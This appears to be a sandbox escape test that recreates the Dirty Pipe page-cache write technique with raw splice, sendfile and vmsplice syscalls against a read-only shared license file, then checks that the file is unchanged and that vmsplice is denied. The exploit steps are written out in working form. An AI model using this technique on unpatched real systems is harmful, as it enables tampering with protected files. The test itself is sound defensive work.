# attack: write into a read-only file's page cache the Dirty-Pipe way: splice (and sendfile, which also fills a pipe from a file) a shared read-only file's page into a pipe, then write to the pipe and vmsplice into it
# expect: splice and sendfile run (the kernel keeps spliced pages out of later pipe writes since the Dirty Pipe fix), vmsplice is denied (EPERM); the file reads back unchanged
# status: ok
import ctypes, errno, hashlib, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def sc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, (ctypes.get_errno() if r == -1 else 0)
def report(bad, ok):
    print(("ESCAPE: %s" % (bad,)) if bad else ("CONTAINED: " + ok), file=sys.stderr)
# An allowed call that did not run is no escape, but the check it guards
# did not happen: no CONTAINED marker then.
broken = []
# A public file of the read-only /usr (shared with the host): harmless even
# where the kernel had the bug.
PATH = "/usr/share/common-licenses/Apache-2.0"
def digest():
    with open(PATH, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()
before = digest()
bad = []
fd = os.open(PATH, os.O_RDONLY)
for how in ("splice", "sendfile"):
    r_, w_ = os.pipe()
    if how == "splice":
        off = ctypes.c_long(1)
        r, e = sc(275, fd, ctypes.byref(off), w_, None, 1, 0)
    else:
        r, e = sc(40, w_, fd, ctypes.byref(ctypes.c_long(1)), 1)
    if r != 1:
        broken.append((how, r, errno.errorcode.get(e, e)))
    os.write(w_, b"PWNED")          # the Dirty Pipe step: merge into the spliced page
    os.close(r_); os.close(w_)
r_, w_ = os.pipe()
iov = (ctypes.c_void_p * 2)(ctypes.cast(ctypes.create_string_buffer(b"pwn"), ctypes.c_void_p), 3)
r, e = sc(278, w_, iov, 1, 0)
if r >= 0 or e != errno.EPERM:
    bad.append(("vmsplice", r, e))
if digest() != before:
    bad.append("the read-only file changed")
if broken:
    print("NOT RUN (the policy allows them): %s" % (broken,), file=sys.stderr)
    if bad:
        print("ESCAPE: %s" % (bad,), file=sys.stderr)
    sys.exit(0)
report(bad, "no write into read-only pages through a pipe")
